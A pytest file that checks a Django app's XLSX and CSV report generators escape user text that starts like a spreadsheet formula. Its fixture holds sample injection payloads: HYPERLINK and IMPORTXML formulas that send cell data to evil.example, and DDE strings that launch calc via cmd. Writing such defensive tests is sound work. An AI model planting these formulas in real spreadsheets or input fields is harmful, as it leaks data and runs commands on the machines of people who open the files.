"""Spreadsheet formula injection: text people typed that starts like a formula (`=`, `+`,
`-`, `@`, a tab, a carriage return) lands in every XLSX and CSV report as text, never as
a formula; amounts stay numbers, negative ones too."""

from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from alliances.models import Alliance, Buyer, ProducerOrganization
from funding import services as money
from monitoring.models import MonitoringReport
from plans.models import PlanStatus
from reports.generators import KINDS
from reports.generators.cells import csv_value, xlsx_value
from reports.models import ReportKind
from reports.services import report_request
from tests.factories import attach_evidence

from .support import csv_rows

pytestmark = [pytest.mark.django_db, pytest.mark.prebuilt(PlanStatus.ACTIVE)]
D = Decimal

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
SPREADSHEETS = sorted(kind for kind, spec in KINDS.items() if spec.extension in ("xlsx", "csv"))


def hostile(world, start: str) -> dict[str, str]:
    """An active alliance of Coop A whose names, payment reference, reversal reason and
    monitoring return reason all start with `start`; tranche 1 paid then reversed."""
    texts = {
        "alliance": f'{start}HYPERLINK("http://evil.example/?leak="&A1,"Alliance")',
        "organization": f"{start}cmd|' /C calc'!A0",
        "buyer": f"{start}SUM(1+1)*cmd|' /C calc'!A0",
        "reference": f"{start}1+1",
        "reason": f"{start}2+5+cmd|' /C calc'!A0",
        "return_reason": f'{start}IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    }
    plan = world.build(PlanStatus.ACTIVE)
    alliance = plan.alliance
    Alliance.objects.filter(pk=alliance.pk).update(name=texts["alliance"])
    ProducerOrganization.objects.filter(pk=world.org_a.pk).update(name=texts["organization"])
    Buyer.objects.filter(pk=world.buyer.pk).update(name=texts["buyer"])
    tranche = plan.commitment.tranches.get(number=1)
    attach_evidence(tranche, by=world.producer)
    money.tranche_request(tranche=tranche, by=world.producer)
    money.tranche_verify(tranche=tranche, by=world.officer)
    money.tranche_authorize(tranche=tranche, by=world.finance2)
    payment = money.tranche_pay(
        tranche=tranche,
        by=world.finance,
        amount=tranche.amount,
        paid_on=timezone.localdate(),
        reference=texts["reference"],
    )
    reversal = money.payment_reverse(payment=payment, by=world.finance, reason=texts["reason"])
    # As recorded: the payment services strip white space (a leading tab or line break).
    texts["reference"], texts["reason"] = payment.reference, reversal.reason
    texts["reversal"] = reversal.reference
    reports = MonitoringReport.objects.filter(alliance=alliance)
    assert reports.exists()
    reports.update(return_reason=texts["return_reason"])
    return texts


# The hostile texts each kind of report shows.
SHOWN = {
    ReportKind.PORTFOLIO_XLSX: {"alliance", "organization", "buyer"},
    ReportKind.DISBURSEMENT_LEDGER_XLSX: {"alliance", "reference", "reversal", "reason"},
    ReportKind.DISBURSEMENT_LEDGER_CSV: {"alliance", "reference", "reversal", "reason"},
    ReportKind.INDICATORS_XLSX: {"alliance", "return_reason"},
}


def generate(world, kind, capture):
    with capture(execute=True):
        job = report_request(kind=kind, parameters={}, by=world.officer)
    job.refresh_from_db()
    assert job.status == "succeeded", job.error
    return job.file.path


def test_every_spreadsheet_kind_is_covered():
    assert sorted(SHOWN) == SPREADSHEETS


@pytest.mark.parametrize("start", TRIGGERS, ids=repr)
def test_text_that_looks_like_a_formula_is_written_as_text(
    world, start, django_capture_on_commit_callbacks
):
    texts = hostile(world, start)
    for kind in SPREADSHEETS:
        path = generate(world, kind, django_capture_on_commit_callbacks)
        expected = {texts[key] for key in SHOWN[kind] if texts[key].startswith(start)}
        assert expected, kind
        if KINDS[kind].extension == "csv":
            fields = [field for row in csv_rows(path) for field in row]
            # Each one behind an apostrophe; nothing else starts like a formula but numbers.
            assert {f[1:] for f in fields if f.startswith("'")} == expected, kind
            starting = [f for f in fields if f.startswith(tuple(TRIGGERS))]
            assert all(D(f) < 0 for f in starting), (kind, starting)
        else:
            workbook = load_workbook(path)
            cells = [cell for ws in workbook for row in ws.iter_rows() for cell in row]
            assert [c.coordinate for c in cells if c.data_type == "f"] == [], kind
            shown = {c.value for c in cells if isinstance(c.value, str)}
            assert expected <= shown, kind
            for cell in cells:
                if cell.value in expected:
                    assert (cell.data_type, cell.quotePrefix) == ("s", True), (kind, cell)


def test_a_negative_amount_stays_a_number(world, django_capture_on_commit_callbacks):
    texts = hostile(world, "-")
    xlsx = generate(world, ReportKind.DISBURSEMENT_LEDGER_XLSX, django_capture_on_commit_callbacks)
    sheet = load_workbook(xlsx)["Disbursement ledger"]
    reversal = next(row for row in sheet.iter_rows() if row[7].value == texts["reversal"])
    assert (reversal[5].value, reversal[11].value, reversal[11].data_type) == (
        "Reversal",
        -4666666,
        "n",
    )
    assert (reversal[7].data_type, reversal[8].value) == ("s", texts["reason"])
    csv = generate(world, ReportKind.DISBURSEMENT_LEDGER_CSV, django_capture_on_commit_callbacks)
    reversal = next(row for row in csv_rows(csv) if row[7] == "'" + texts["reversal"])
    assert reversal[5:12] == [
        "Reversal",
        "1",
        "'" + texts["reversal"],
        "'" + texts["reason"],
        "",
        "",
        "-4666666",  # in XOF's minor unit: none
    ]


def test_cell_values_one_by_one():
    from openpyxl import Workbook

    ws = Workbook(write_only=True).create_sheet()
    assert [csv_value(v) for v in ["=1", "+1", "-1", "@A", "\t1", "\r1", "a=1", None]] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A",
        "'\t1",
        "'\r1",
        "a=1",
        "",
    ]
    assert [csv_value(v) for v in (D("-5.00"), -3, 2.5)] == [D("-5.00"), -3, 2.5]
    assert [xlsx_value(ws, v) for v in (D("-5.00"), -3, "plain", "bell\x07")] == [
        D("-5.00"),
        -3,
        "plain",
        "bell",
    ]
    for text in ("=1+2", "-1", "#N/A"):
        cell = xlsx_value(ws, text)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
